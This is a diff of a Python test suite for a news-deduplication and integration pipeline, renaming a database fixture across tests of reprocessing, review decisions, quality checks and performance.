+    run(process_db, *MARCH, run_id="m1")
+    first = run(process_db, *APRIL, run_id="a1")
+    before = integration_dump(process_db)
+    again = run(process_db, *APRIL, run_id="a2")
+    run(process_db, *MARCH, run_id="m2")
+    assert integration_dump(process_db) == before
     assert again["normalized"] == 0 and again["new"] == again["updated"] == again["removed"] == 0
     assert again["unchanged"] == first["new"] + first["unchanged"] + first["updated"] > 0
-    assert check_quality(db) == []
+    assert check_quality(process_db) == []
 
 
 def order_dump(dsn: str) -> dict[str, list[tuple]]:
@@ -914,67 +747,69 @@ def order_dump(dsn: str) -> dict[str, list[tuple]]:
     }
 
 
-def test_processing_order_does_not_change_the_result(db: str) -> None:
-    ids = two_month_dataset(db)
-    run(db, *MARCH)
-    run(db, *APRIL)
-    forward = order_dump(db)
+def test_processing_order_does_not_change_the_result(process_db: str) -> None:
+    ids = two_month_dataset(process_db)
+    run(process_db, *MARCH)
+    run(process_db, *APRIL)
+    forward = order_dump(process_db)
     # start again from the same staging rows, months in the other order
-    conn = connect(db)
+    conn = connect(process_db)
     with conn, conn.cursor() as cur:
         cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
     conn.close()
-    counts = run(db, *APRIL)
+    counts = run(process_db, *APRIL)
     assert counts["new"] > 0
     # alone, April makes the republication of S1 its own story, primary on gov
     assert rows(
-        db,
+        process_db,
         "SELECT primary_item_id, story_month FROM integration.article a JOIN process.item_story s "
         "USING (story_key) WHERE s.item_id = %s",
         ids["s1_gov"],
     ) == [(ids["s1_gov"], "2024-04")]
-    backward_counts = run(db, *MARCH)
+    backward_counts = run(process_db, *MARCH)
     # March joins it to its original: the article is re-keyed (removed + new) or rewritten in place
     assert backward_counts["removed"] + backward_counts["updated"] >= 2
-    assert order_dump(db) == forward
-    s1 = story_of(db, ids["s1_bdn"])
-    assert story_of(db, ids["s1_gov"]) == s1
-    assert rows(db, "SELECT primary_item_id, story_month FROM integration.article WHERE story_key = %s", s1) == [
-        (ids["s1_bdn"], "2024-03")
+    assert order_dump(process_db) == forward
+    s1 = story_of(process_db, ids["s1_bdn"])
+    assert story_of(process_db, ids["s1_gov"]) == s1
+    assert rows(
+        process_db, "SELECT primary_item_id, story_month FROM integration.article WHERE story_key = %s", s1
+    ) == [(ids["s1_bdn"], "2024-03")]
+    s2 = story_of(process_db, ids["s2_gov"])
+    assert {story_of(process_db, ids["s2_party"]), story_of(process_db, ids["s2_bdn"])} == {s2}
+    assert rows(process_db, "SELECT primary_item_id FROM integration.article WHERE story_key = %s", s2) == [
+        (ids["s2_gov"],)
     ]
-    s2 = story_of(db, ids["s2_gov"])
-    assert {story_of(db, ids["s2_party"]), story_of(db, ids["s2_bdn"])} == {s2}
-    assert rows(db, "SELECT primary_item_id FROM integration.article WHERE story_key = %s", s2) == [(ids["s2_gov"],)]
-    assert decision(db, ids["s2_party"])[:2] == ("rejected", "section_not_integrated")
-    assert rows(db, "SELECT count(*) FROM integration.article_source WHERE story_key = %s", s2) == [(3,)]
-    assert decision(db, ids["s3_gov"])[:2] == ("needs_review", "possible_duplicate")
-    assert edge(db, ids["s1_bdn"], ids["s3_gov"])[0] == "review_grey_zone"
-    assert story_of(db, ids["s4_a"]) == story_of(db, ids["s4_b"])
-    assert check_quality(db) == []
+    assert decision(process_db, ids["s2_party"])[:2] == ("rejected", "section_not_integrated")
+    assert rows(process_db, "SELECT count(*) FROM integration.article_source WHERE story_key = %s", s2) == [(3,)]
+    assert decision(process_db, ids["s3_gov"])[:2] == ("needs_review", "possible_duplicate")
+    assert edge(process_db, ids["s1_bdn"], ids["s3_gov"])[0] == "review_grey_zone"
+    assert story_of(process_db, ids["s4_a"]) == story_of(process_db, ids["s4_b"])
+    assert check_quality(process_db) == []
 
 
-def test_stages_called_separately_match_process_interval(db: str) -> None:
-    two_month_dataset(db)
-    run(db, *MARCH)
-    run(db, *APRIL)
-    together = order_dump(db)
-    conn = connect(db)
+def test_stages_called_separately_match_process_interval(process_db: str) -> None:
+    two_month_dataset(process_db)
+    run(process_db, *MARCH)
+    run(process_db, *APRIL)
+    together = order_dump(process_db)
+    conn = connect(process_db)
     with conn, conn.cursor() as cur:
         cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
     conn.close()
     for start, end in (MARCH, APRIL):
-        kw = {"dag_id": "process_test", "run_id": "sep", "dsn": db, "registry": REG}
+        kw = {"dag_id": "process_test", "run_id": "sep", "dsn": process_db, "registry": REG}
         for name in STAGE_NAMES:
             run_stage(name, start, end, **kw)
-    assert order_dump(db) == together
-    assert rows(db, "SELECT count(*) FROM process.pending") == [(0,)]
+    assert order_dump(process_db) == together
+    assert rows(process_db, "SELECT count(*) FROM process.pending") == [(0,)]
 
 
-def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
+def test_changed_and_withdrawn_items_update_the_store(process_db: str) -> None:
     when = local(2024, 5, 8, 9)
     t, s, b = distinct_story(when)
     item = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/thay-doi-1.html",
         title=t,
@@ -984,7 +819,7 @@ def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
         section="kinh-te",
     )
     other = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/khac-2.html",
         title=SEED_TITLE,
@@ -992,12 +827,12 @@ def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
         published=when,
         section="kinh-te",
     )
-    run(db, *MAY)
+    run(process_db, *MAY)
     ((key, xmin_other),) = rows(
-        db, "SELECT story_key, xmin::text FROM integration.article WHERE primary_item_id = %s", other
+        process_db, "SELECT story_key, xmin::text FROM integration.article WHERE primary_item_id = %s", other
     )
     stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/thay-doi-1.html",
         title=t + " (cập nhật)",
@@ -1007,12 +842,14 @@ def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
         section="kinh-te",
     )
     # an interval that does not contain the item: changed content is still picked up
-    counts = run(db, local(2024, 7, 1), local(2024, 8, 1), run_id="later")
+    counts = run(process_db, local(2024, 7, 1), local(2024, 8, 1), run_id="later")
     assert (counts["normalized"], counts["updated"], counts["new"]) == (1, 1, 0)
-    assert rows(db, "SELECT title FROM integration.article WHERE primary_item_id = %s", item) == [(t + " (cập nhật)",)]
-    assert rows(db, "SELECT change, previous->>'title' FROM integration.article_history") == [("updated", t)]
-    assert rows(db, "SELECT xmin::text FROM integration.article WHERE story_key = %s", key) == [(xmin_other,)]
-    conn = connect(db)
+    assert rows(process_db, "SELECT title FROM integration.article WHERE primary_item_id = %s", item) == [
+        (t + " (cập nhật)",)
+    ]
+    assert rows(process_db, "SELECT change, previous->>'title' FROM integration.article_history") == [("updated", t)]
+    assert rows(process_db, "SELECT xmin::text FROM integration.article WHERE story_key = %s", key) == [(xmin_other,)]
+    conn = connect(process_db)
     with conn, conn.cursor() as cur:
         cur.execute(
             "UPDATE staging.item SET status = 'parse_error', parse_error = 'layout_unknown', "
@@ -1020,58 +857,60 @@ def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
             (item,),
         )
     conn.close()
-    counts = run(db, *MAY, run_id="withdraw")
+    counts = run(process_db, *MAY, run_id="withdraw")
     assert counts["removed"] == 1 and counts["items_withdrawn"] == 1
-    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(other,)]
-    assert rows(db, "SELECT change FROM integration.article_history ORDER BY history_id") == [
+    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(other,)]
+    assert rows(process_db, "SELECT change FROM integration.article_history ORDER BY history_id") == [
         ("updated",),
         ("removed",),
     ]
-    assert check_quality(db) == []
+    assert check_quality(process_db) == []
 
 
 # --- review ---------------------------------------------------------------------------------------
 
 
-def test_review_approve_reject_reopen(db: str) -> None:
-    early, late = grey_pair(db)
-    run(db, *MAY)
-    merged_key = min(story_of(db, early), story_of(db, late))
+def test_review_approve_reject_reopen(process_db: str) -> None:
+    early, late = grey_pair(process_db)
+    run(process_db, *MAY)
+    merged_key = min(story_of(process_db, early), story_of(process_db, late))
 
     result = review.approve(
-        late, "Nguyễn Thu Hà", "cùng một tin, đăng lại", as_duplicate_of=early, dsn=db, registry=REG
+        late, "Nguyễn Thu Hà", "cùng một tin, đăng lại", as_duplicate_of=early, dsn=process_db, registry=REG
     )
     assert result["outcome"] == "approved" and result["integrated"]
-    assert edge(db, early, late)[0] == "editor_merge"
-    assert story_of(db, late) == story_of(db, early) == merged_key
-    assert rows(db, "SELECT item_id, is_primary FROM integration.article_source ORDER BY item_id") == sorted(
+    assert edge(process_db, early, late)[0] == "editor_merge"
+    assert story_of(process_db, late) == story_of(process_db, early) == merged_key
+    assert rows(process_db, "SELECT item_id, is_primary FROM integration.article_source ORDER BY item_id") == sorted(
         [(early, True), (late, False)]
     )
-    assert review.list_queue(dsn=db) == []
+    assert review.list_queue(dsn=process_db) == []
 
     # a later policy run keeps the editor's decision and merge
-    run(db, *MAY, run_id="again")
-    assert decision(db, late) == ("approved", None, "Nguyễn Thu Hà")
-    assert edge(db, early, late)[0] == "editor_merge"
+    run(process_db, *MAY, run_id="again")
+    assert decision(process_db, late) == ("approved", None, "Nguyễn Thu Hà")
+    assert edge(process_db, early, late)[0] == "editor_merge"
 
-    review.reopen(late, "Nguyễn Thu Hà", "nhầm, cần xem lại", dsn=db, registry=REG)
-    assert decision(db, late) == ("needs_review", "possible_duplicate", "policy")
-    assert edge(db, early, late)[0] == "review_grey_zone"
-    assert rows(db, "SELECT count(*) FROM integration.article_source") == [(1,)]
+    review.reopen(late, "Nguyễn Thu Hà", "nhầm, cần xem lại", dsn=process_db, registry=REG)
+    assert decision(process_db, late) == ("needs_review", "possible_duplicate", "policy")
+    assert edge(process_db, early, late)[0] == "review_grey_zone"
+    assert rows(process_db, "SELECT count(*) FROM integration.article_source") == [(1,)]
 
-    review.reject(early, "Trần Minh", "trùng với bài đã tích hợp", dsn=db, registry=REG)
-    assert decision(db, early) == ("rejected", "editor", "Trần Minh")
-    assert rows(db, "SELECT count(*) FROM integration.article") == [(0,)]
+    review.reject(early, "Trần Minh", "trùng với bài đã tích hợp", dsn=process_db, registry=REG)
+    assert decision(process_db, early) == ("rejected", "editor", "Trần Minh")
+    assert rows(process_db, "SELECT count(*) FROM integration.article") == [(0,)]
     assert rows(
-        db,
+        process_db,
         "SELECT change, (previous->>'primary_item_id')::bigint FROM integration.article_history "
         "ORDER BY history_id DESC LIMIT 1",
     ) == [("removed", early)]
     # the later item is still flagged: its grey-zone partner is earlier, whatever its decision
-    review.approve(late, "Trần Minh", "tin riêng, không trùng", dsn=db, registry=REG)
-    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(late,)]
+    review.approve(late, "Trần Minh", "tin riêng, không trùng", dsn=process_db, registry=REG)
+    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(late,)]
 
-    audit = rows(db, "SELECT item_id, action, reviewer, note, detail FROM process.review_audit ORDER BY audit_id")
+    audit = rows(
+        process_db, "SELECT item_id, action, reviewer, note, detail FROM process.review_audit ORDER BY audit_id"
+    )
     assert [(a[0], a[1], a[2]) for a in audit] == [
         (late, "approve", "Nguyễn Thu Hà"),
         (late, "reopen", "Nguyễn Thu Hà"),
@@ -1080,32 +919,32 @@ def test_review_approve_reject_reopen(db: str) -> None:
     ]
     assert audit[0][4] == {"as_duplicate_of": early} and audit[1][4] == {"unmerged": [early]}
     assert audit[0][3] == "cùng một tin, đăng lại"
-    shown = review.show(late, dsn=db)
+    shown = review.show(late, dsn=process_db)
     assert [a["action"] for a in shown["audit"]] == ["approve", "reopen", "approve"]
     assert shown["story"]["integrated"] is True
-    assert check_quality(db) == []
+    assert check_quality(process_db) == []
     with pytest.raises(review.ReviewError):
-        review.reject(late, "policy", "x", dsn=db, registry=REG)
+        review.reject(late, "policy", "x", dsn=process_db, registry=REG)
     with pytest.raises(review.ReviewError):
-        review.reject(late, "Trần Minh", "x", reason="because", dsn=db, registry=REG)
+        review.reject(late, "Trần Minh", "x", reason="because", dsn=process_db, registry=REG)
 
 
 # --- quality --------------------------------------------------------------------------------------
 
 
-def test_check_quality_reports_planted_violations(db: str) -> None:
-    two_month_dataset(db)
-    run(db, *MARCH)
-    run(db, *APRIL)
-    assert check_quality(db) == []
-    conn = connect(db)
+def test_check_quality_reports_planted_violations(process_db: str) -> None:
+    two_month_dataset(process_db)
+    run(process_db, *MARCH)
+    run(process_db, *APRIL)
+    assert check_quality(process_db) == []
+    conn = connect(process_db)
     with conn, conn.cursor() as cur:
         cur.execute("""UPDATE integration.article_source SET is_primary = false
                         WHERE story_key = (SELECT min(story_key) FROM integration.article) AND is_primary""")
     conn.close()
-    failures = check_quality(db)
+    failures = check_quality(process_db)
     assert len(failures) == 1 and failures[0].startswith("one_primary_per_article: 1 ")
-    conn = connect(db)
+    conn = connect(process_db)
     with conn, conn.cursor() as cur:
         cur.execute("""DELETE FROM integration.article_source WHERE story_key = (
                          SELECT max(story_key) FROM integration.article)""")
@@ -1113,21 +952,21 @@ def test_check_quality_reports_planted_violations(db: str) -> None:
             "DELETE FROM integration.article WHERE story_key = (SELECT max(story_key) FROM integration.article)"
         )
     conn.close()
-    names = {f.split(":")[0] for f in check_quality(db)}
+    names = {f.split(":")[0] for f in check_quality(process_db)}
     assert names == {"one_primary_per_article", "approved_item_in_one_article", "load_batch_reconciles"}
 
 
 # --- performance ----------------------------------------------------------------------------------
 
 
-def test_a_month_of_three_channels_processes_in_seconds(db: str) -> None:
+def test_a_month_of_three_channels_processes_in_seconds(process_db: str) -> None:
     sources = [
         ("dongnai_party", "tin-hoat-dong", "/news/tin-hoat-dong/p-{n}.html"),
         ("dongnai_gov", "kinh-te", "/vi/news/kinh-te/g-{n}.html"),
         ("baodongnai", "xa-hoi", "/xa-hoi/202405/b-{n}"),
     ]
     rng = random.Random(5)
-    conn = connect(db)
+    conn = connect(process_db)
     values = []
     n = 0
     for source_id, section, path in sources:
@@ -1179,10 +1018,10 @@ def test_a_month_of_three_channels_processes_in_seconds(db: str) -> None:
         )
     conn.close()
     began = time.perf_counter()
-    counts = run(db, local(2024, 5, 1), local(2024, 6, 3))
+    counts = run(process_db, local(2024, 5, 1), local(2024, 6, 3))
     elapsed = time.perf_counter() - began
     assert counts["normalized"] == len(values) == 1008
     assert counts["items_rekeyed"] >= 0 and counts["new"] >= 900 - 5
     assert elapsed < 20, f"{elapsed:.1f} s"
-    assert check_quality(db) == []
+    assert check_quality(process_db) == []
     print(f"\n{len(values)} items processed in {elapsed:.2f} s: {counts}")
